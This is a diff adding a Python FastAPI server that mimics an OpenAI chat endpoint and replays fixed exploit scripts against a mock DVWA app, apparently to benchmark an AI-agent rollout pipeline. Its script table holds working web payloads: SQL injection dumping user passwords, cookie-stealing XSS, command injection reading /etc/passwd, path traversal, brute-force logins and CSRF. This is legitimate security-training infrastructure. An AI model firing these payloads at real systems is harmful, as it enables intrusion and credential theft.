@@ -0,0 +1,225 @@
+"""
+Scripted Policy Server
+
+An OpenAI-compatible /v1/chat/completions endpoint that plays a fixed
+exploit script per DVWA page instead of sampling a model. Pointed at the
+mock DVWA app it yields realistic multi-turn trajectories at a rate
+bounded only by the rollout/judge pipeline, which makes it the policy
+half of the offline throughput benchmark (scripts/benchmark_rollouts.py).
+
+The script is chosen from the "Target:" line of the task message and
+advanced by counting the assistant turns already in the conversation, so
+the server is stateless. Each turn issues one tool call; when the script
+is exhausted it calls submit_answer with the text of the last tool output.
+
+Both tool sets are supported: http_get/http_post (FullCAIRollout) and
+http_request (CAIRollout).
+
+    POLICY_MOCK_LATENCY_MS=50 uvicorn src.dvwa_mock.policy:app --port 8082
+"""
+
+import asyncio
+import json
+import os
+import re
+import time
+import uuid
+from html import unescape
+from typing import Any, Dict, List, Optional, Tuple
+
+from fastapi import FastAPI, Request
+
+
+MODEL_NAME = "scripted-dvwa-policy"
+
+# (method, path, params)
+Step = Tuple[str, str, Dict[str, str]]
+
+SCRIPTS: Dict[str, List[Step]] = {
+    "/vulnerabilities/sqli/": [
+        ("GET", "/vulnerabilities/sqli/", {"id": "1", "Submit": "Submit"}),
+        ("GET", "/vulnerabilities/sqli/", {"id": "1'", "Submit": "Submit"}),
+        ("GET", "/vulnerabilities/sqli/", {
+            "id": "1' UNION SELECT table_name, table_schema FROM information_schema.tables#",
+            "Submit": "Submit",
+        }),
+        ("GET", "/vulnerabilities/sqli/", {
+            "id": "1' UNION SELECT user, password FROM users#", "Submit": "Submit",
+        }),
+    ],
+    "/vulnerabilities/sqli_blind/": [
+        ("GET", "/vulnerabilities/sqli_blind/", {"id": "1' AND '1'='1", "Submit": "Submit"}),
+        ("GET", "/vulnerabilities/sqli_blind/", {"id": "1' AND '1'='2", "Submit": "Submit"}),
+        ("GET", "/vulnerabilities/sqli_blind/", {"id": "1' AND length(@@version)>20#", "Submit": "Submit"}),
+        ("GET", "/vulnerabilities/sqli_blind/", {"id": "1' AND substring(@@version,1,1)='1'#", "Submit": "Submit"}),
+        ("GET", "/vulnerabilities/sqli_blind/", {"id": "1' AND substring(@@version,3,1)='1'#", "Submit": "Submit"}),
+    ],
+    "/vulnerabilities/xss_r/": [
+        ("GET", "/vulnerabilities/xss_r/", {"name": "test"}),
+        ("GET", "/vulnerabilities/xss_r/", {"name": "<script>alert(document.cookie)</script>"}),
+        ("GET", "/vulnerabilities/xss_r/", {"name": "<img src=x onerror=alert(1) onload=alert(2)>"}),
+    ],
+    "/vulnerabilities/xss_s/": [
+        ("GET", "/vulnerabilities/xss_s/", {}),
+        ("POST", "/vulnerabilities/xss_s/", {
+            "txtName": "stored", "mtxMessage": "<script>alert('stored')</script>",
+            "btnSign": "Sign Guestbook",
+        }),
+    ],
+    "/vulnerabilities/xss_d/": [
+        ("GET", "/vulnerabilities/xss_d/", {"default": "English#<script>alert(document.cookie)</script>"}),
+    ],
+    "/vulnerabilities/exec/": [
+        ("GET", "/vulnerabilities/exec/", {}),
+        ("POST", "/vulnerabilities/exec/", {"ip": "127.0.0.1", "Submit": "Submit"}),
+        ("POST", "/vulnerabilities/exec/", {"ip": "127.0.0.1; id", "Submit": "Submit"}),
+        ("POST", "/vulnerabilities/exec/", {"ip": "127.0.0.1; cat /etc/passwd", "Submit": "Submit"}),
+    ],
+    "/vulnerabilities/fi/": [
+        ("GET", "/vulnerabilities/fi/", {"page": "include.php"}),
+        ("GET", "/vulnerabilities/fi/", {"page": "../../../../../../etc/passwd"}),
+        ("GET", "/vulnerabilities/fi/", {
+            "page": "php://filter/convert.base64-encode/resource=config/config.inc.php",
+        }),
+    ],
+    "/vulnerabilities/brute/": [
+        ("GET", "/vulnerabilities/brute/", {"username": "admin", "password": "admin", "Login": "Login"}),
+        ("GET", "/vulnerabilities/brute/", {"username": "admin", "password": "123456", "Login": "Login"}),
+        ("GET", "/vulnerabilities/brute/", {"username": "admin", "password": "password", "Login": "Login"}),
+    ],
+    "/vulnerabilities/csrf/": [
+        ("GET", "/vulnerabilities/csrf/", {}),
+        ("GET", "/vulnerabilities/csrf/", {
+            "password_new": "hacked", "password_conf": "hacked", "Change": "Change",
+        }),
+    ],
+}
+
+# Used when the task has no recognizable Target: line
+CATEGORY_TARGETS = {
+    "sql_injection": "/vulnerabilities/sqli/",
+    "xss": "/vulnerabilities/xss_r/",
+    "command_injection": "/vulnerabilities/exec/",
+    "file_inclusion": "/vulnerabilities/fi/",
+    "authentication": "/vulnerabilities/brute/",
+    "csrf": "/vulnerabilities/csrf/",
+}
+
+_TARGET_RE = re.compile(r"Target:\s*(/\S+?)(?:\?|\s|$)")
+_CATEGORY_RE = re.compile(r"^CATEGORY:\s*(\S+)", re.IGNORECASE | re.MULTILINE)
+_TAG_RE = re.compile(r"<(?!script|img|/script)[^>]+>", re.IGNORECASE)
+
+ANSWER_CHARS = 1500
+
+
+def select_script(messages: List[Dict[str, Any]]) -> List[Step]:
+    """Pick the exploit script for the task in the first user message"""
+    task = next((m.get("content") or "" for m in messages if m.get("role") == "user"), "")
+    target = _TARGET_RE.search(task)
+    if target and target.group(1) in SCRIPTS:
+        return SCRIPTS[target.group(1)]
+    category = _CATEGORY_RE.search(task)
+    path = CATEGORY_TARGETS.get(category.group(1).lower() if category else "", "/vulnerabilities/sqli/")
+    return SCRIPTS[path]
+
+
+def _tool_names(tools: Optional[List[Dict[str, Any]]]) -> set:
+    return {t.get("function", {}).get("name") for t in tools or []}
+
+
+def step_call(step: Step, tool_names: set) -> Tuple[str, Dict[str, Any]]:
+    """Express a scripted request with whichever HTTP tool the rollout offers"""
+    method, path, params = step
+    if "http_get" in tool_names:
+        if method == "GET":
+            return "http_get", {"path": path, "params": params}
+        return "http_post", {"path": path, "data": params}
+    return "http_request", {"method": method, "path": path, "params": params}
+
+
+def extract_text(tool_output: str) -> str:
+    """Readable body of a tool result (JSON envelope and layout markup dropped)"""
+    try:
+        data = json.loads(tool_output)
+    except (json.JSONDecodeError, TypeError):
+        data = None
+    if isinstance(data, dict):
+        tool_output = str(
+            data.get("body") or data.get("body_preview") or data.get("output")
+            or data.get("error") or tool_output
+        )
+    # Keep injected script/img tags visible, they are the evidence for XSS
+    text = unescape(_TAG_RE.sub(" ", tool_output))
+    return re.sub(r"\s+", " ", text).strip()
+
+
+def next_action(
+    messages: List[Dict[str, Any]], tools: Optional[List[Dict[str, Any]]]
+) -> Tuple[str, Dict[str, Any]]:
+    """Tool call for the next turn of the conversation"""
+    script = select_script(messages)
+    turn = sum(1 for m in messages if m.get("role") == "assistant")
+    if turn < len(script):
+        return step_call(script[turn], _tool_names(tools))
+
+    tool_outputs = [m.get("content") or "" for m in messages if m.get("role") == "tool"]
+    evidence = extract_text(tool_outputs[-1]) if tool_outputs else ""
+    method, path, params = script[-1]
+    return "submit_answer", {
+        "answer": f"Exploited {path} with {json.dumps(params)}. Response: {evidence[:ANSWER_CHARS]}",
+        "evidence": evidence[:ANSWER_CHARS],
+        "success": True,
+    }
+
+
+def completion(model: str, name: str, arguments: Dict[str, Any]) -> Dict[str, Any]:
+    """OpenAI chat.completion payload with a single tool call"""
+    return {
+        "id": f"chatcmpl-{uuid.uuid4().hex[:24]}",
+        "object": "chat.completion",
+        "created": int(time.time()),
+        "model": model,
+        "choices": [{
+            "index": 0,
+            "message": {
+                "role": "assistant",
+                "content": None,
+                "tool_calls": [{
+                    "id": f"call_{uuid.uuid4().hex[:24]}",
+                    "type": "function",
+                    "function": {"name": name, "arguments": json.dumps(arguments)},
+                }],
+            },
+            "finish_reason": "tool_calls",
+        }],
+        "usage": {"prompt_tokens": 0, "completion_tokens": 0, "total_tokens": 0},
+    }
+
+
+def create_app(latency_ms: float = 0.0) -> FastAPI:
+    """
+    Build the scripted policy app.
+
+    Args:
+        latency_ms: Delay per completion, standing in for model generation time
+    """
+    app = FastAPI(title="Scripted DVWA Policy", docs_url=None, redoc_url=None)
+    app.state.completions = 0
+
+    @app.get("/v1/models")
+    async def models():
+        return {"object": "list", "data": [{"id": MODEL_NAME, "object": "model", "owned_by": "dvwa_mock"}]}
+
+    @app.post("/v1/chat/completions")
+    async def chat_completions(request: Request):
+        body = await request.json()
+        app.state.completions += 1
+        if latency_ms:
+            await asyncio.sleep(latency_ms / 1000)
+        name, arguments = next_action(body.get("messages", []), body.get("tools"))
+        return completion(body.get("model", MODEL_NAME), name, arguments)
+
+    return app
+
+
+app = create_app(latency_ms=float(os.getenv("POLICY_MOCK_LATENCY_MS", "0")))